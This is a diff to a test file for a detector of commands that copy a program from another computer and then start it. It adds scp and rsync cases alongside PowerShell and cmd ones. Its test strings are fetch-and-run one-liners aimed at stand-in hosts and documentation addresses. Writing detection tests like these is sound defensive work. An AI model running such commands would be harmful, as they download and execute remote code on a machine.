@@ -22,6 +22,10 @@ from app.detection.staging import copies_in_then_runs
         '$p="$env:TEMP\\x.exe"; Copy-Item \\\\files.drop.test\\s\\x.exe $p; Start-Process $p',
         "$t=$env:TEMP+'\\r.exe'; Copy-Item \\\\198.51.100.9\\s\\q.bin $t; saps $t",
         "set f=%TEMP%\\u.exe& copy \\\\198.51.100.9\\s\\z.dat %f% & start %f%",
+        # a Unix program or script has no extension: a shell or its own path starts it
+        "scp guest@198.51.100.9:/srv/p /tmp/p && sh /tmp/p",
+        "scp -P 2222 guest@files.drop.test:agent /tmp/agent; chmod +x /tmp/agent; /tmp/agent",
+        "rsync -az rsync://198.51.100.9/pub/p /tmp/p && /tmp/p",
         # .NET's copy is a copy
         "$d=\"$env:TEMP\\a.exe\";[IO.File]::Copy('\\\\198.51.100.9\\s\\a.exe',$d,$true);& $d",
     ],
@@ -44,6 +48,9 @@ def test_a_file_brought_from_another_computer_and_started_is_read(text: str) -> 
         # started before it was copied: not this act
         "%TEMP%\\a.exe & copy \\\\192.0.2.15\\pub\\a.exe %TEMP%\\a.exe",
         "tftp -i 192.168.0.1 GET a.exe & a.exe",
+        # a file with no extension copied in and only read, or named by a Windows program
+        "scp guest@198.51.100.9:/srv/notes /tmp/notes && cat /tmp/notes",
+        "copy \\\\192.0.2.15\\pub\\README C:\\Temp\\ & start README",
         # a variable that names a local copy, and one started that names another file
         '$p="$env:TEMP\\x.exe"; Copy-Item \\\\fileserver\\s\\x.exe $p; Start-Process $p',
         '$p="$env:TEMP\\x.exe"; $q="$env:TEMP\\y.exe"; Copy-Item \\\\198.51.100.9\\s\\x.exe $p; & $q',
